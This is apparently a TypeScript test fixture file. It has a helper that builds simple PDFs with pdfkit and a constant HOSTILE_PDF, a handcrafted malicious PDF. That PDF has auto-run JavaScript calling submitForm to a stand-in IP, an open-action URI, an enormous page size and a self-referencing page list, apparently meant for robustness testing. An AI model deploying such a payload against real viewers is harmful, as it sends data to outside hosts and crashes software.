import PDFDocument from 'pdfkit';

/** A small real PDF with one page per text, set in a font that it does not carry. */
export async function pdfOf(pages: readonly string[], options: PDFKit.PDFDocumentOptions = {}): Promise<Buffer> {
  const file = new PDFDocument({ autoFirstPage: false, size: 'A4', ...options });
  const chunks: Buffer[] = [];
  file.on('data', (chunk: Buffer) => chunks.push(chunk));
  const ended = new Promise((resolve) => file.on('end', resolve));
  for (const text of pages) {
    file.addPage();
    if (text !== '') file.fontSize(20).text(text);
    else file.rect(80, 80, 200, 200).fill('#6a3cab');
  }
  file.end();
  await ended;
  return Buffer.concat(chunks);
}

/** A page ten million points wide, scripts that start by themselves, and a list of pages that contains itself. */
export const HOSTILE_PDF = Buffer.from(`%PDF-1.7
1 0 obj
<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert("open"); this.submitForm("http://203.0.113.9/")) >> >>
endobj
2 0 obj
<< /Type /Pages /Count 2 /Kids [3 0 R 2 0 R] >>
endobj
3 0 obj
<< /Type /Page /Parent 2 0 R /MediaBox [0 0 10000000 1] /AA << /O << /S /URI /URI (http://203.0.113.9/) >> >> >>
endobj
trailer
<< /Root 1 0 R /Size 4 >>
%%EOF
`);
